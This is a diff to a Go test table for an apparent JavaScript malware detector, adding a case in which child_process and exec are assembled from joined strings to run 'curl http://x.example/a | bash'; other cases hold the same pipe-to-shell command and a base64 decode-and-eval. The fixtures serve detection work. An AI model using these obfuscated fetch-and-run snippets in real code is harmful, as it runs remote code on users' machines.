@@ -79,6 +79,7 @@ func TestJS(t *testing.T) {
 		{"const b = ['child', '_process'];\nconst m = require(b.join(''));\nm.exec('curl http://x.example/a | bash');\n", "shell:pipe-to-shell"},
 		{"const a = ['ex', 'ec'];\nconst m = require('child_process');\nm[a.join('')]('curl http://x.example/a | bash');\n", "obfuscated,shell:pipe-to-shell"},
 		{"const parts = ['a', 'b'];\nconsole.log(parts.join('-'));\n", ""},
+		{"const a = ['ex', 'ec'], b = ['child', '_process'];\nconst m = require(b.join(''));\nm[a.join('')]('curl http://x.example/a | bash');\n", "obfuscated,shell:pipe-to-shell"},
 		{"const cfg = '" + packed + "';\neval(Buffer.from(cfg, 'base64').toString('utf8'));\n", "decode-exec,shell:pipe-to-shell"},
 		{"fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\n", ""},
 		// A request's end() and write() send what they are given; a path
